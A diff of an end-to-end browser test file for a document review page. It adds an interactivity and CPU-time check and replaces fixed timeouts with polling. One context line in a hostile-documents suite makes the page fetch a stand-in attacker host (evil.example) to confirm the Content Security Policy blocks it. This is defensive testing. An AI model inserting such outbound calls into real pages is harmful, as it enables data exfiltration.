@@ -12,6 +12,8 @@ import { type Desk, documentsOf, HOSTILE_STRINGS, newDesk } from "../support/rev
 
 /** Console.md: the review route's script. */
 const SCRIPT_BYTES = 250 * 1024;
+/** And what its page may work before it takes keys. */
+const INTERACTIVE_MS = 1500;
 const PAGES = 50;
 
 // A browser, a reader and axe on a crowded machine: what hangs is found by the waits, which are shorter.
@@ -28,7 +30,7 @@ beforeAll(async () => {
   owner = await newOwner(estratto);
   invoice = estratto.service("invoice");
   invoices = documentsOf(estratto, invoice);
-}, 120_000);
+});
 
 afterAll(async () => {
   await browser?.close();
@@ -55,8 +57,10 @@ describe("a document of fifty pages and twenty thousand words", () => {
     const openedMs = Math.round(performance.now() - began);
     process.stdout.write(`a document of ${PAGES} pages is open after ${openedMs} ms\n`);
     await desk.choose("Total");
+    await desk.page.locator("path[data-word]").first().waitFor();
     expect(await desk.page.locator("path[data-word]").count()).toBeLessThan(1_000);
-    expect(await desk.page.getByRole("navigation", { name: "Pages" }).getByRole("button").count()).toBe(PAGES);
+    const thumbnails = desk.page.getByRole("navigation", { name: "Pages" }).getByRole("button");
+    await expect.poll(() => thumbnails.count()).toBe(PAGES);
   }, 200_000);
 
   test("selects a field at once", async () => {
@@ -172,18 +176,33 @@ describe("documents made to break the page", () => {
     await page.evaluate("fetch('http://evil.example/control').catch(() => 0)");
     await expect.poll(() => desk.seen.errors.join()).toContain("Content Security Policy");
     await desk.context.close();
-  }, 120_000);
+  });
 });
 
 describe("the weight of the review route", () => {
-  test("is at most 250 KB of script on a first visit", async () => {
+  test("is at most 250 KB of script on a first visit, and takes keys soon", async () => {
     const documentId = await invoices.read(textPdf([[{ text: "FATTURA n. 7", x: 40, y: 60 }]]), "light.pdf");
     const desk = await newDesk(browser, estratto, invoice.serviceId, owner);
     const scripts = new Set<string>();
     desk.page.on("request", (request) => {
       if (request.resourceType() === "script" || /\.js$/.test(request.url())) scripts.add(request.url());
     });
+    const cdp = await desk.context.newCDPSession(desk.page);
+    await cdp.send("Performance.enable", { timeDomain: "threadTicks" });
+    const began = performance.now();
     await desk.open(documentId);
+    // It takes keys: one more, and another value is selected.
+    const selected = () => desk.page.evaluate("document.activeElement.id");
+    await desk.page.keyboard.press("ArrowDown");
+    await expect.poll(selected).toMatch(/^value:/);
+    const interactiveMs = performance.now() - began;
+    const { metrics } = await cdp.send("Performance.getMetrics");
+    const cpuMs = 1000 * (metrics.find(({ name }) => name === "TaskDuration")?.value ?? Number.NaN);
+    process.stdout.write(
+      `the review route is interactive after ${Math.round(interactiveMs)} ms, ${Math.round(cpuMs)} ms of them the page's own work\n`,
+    );
+    // The promise is 1.5 s. Of the page's own work it must hold anywhere; by the clock, on a machine of one's own.
+    expect(cpuMs).toBeLessThan(INTERACTIVE_MS);
     const sizes = await Promise.all(
       [...scripts].map(async (url) => gzipSync(Buffer.from(await (await fetch(url)).arrayBuffer())).length),
     );
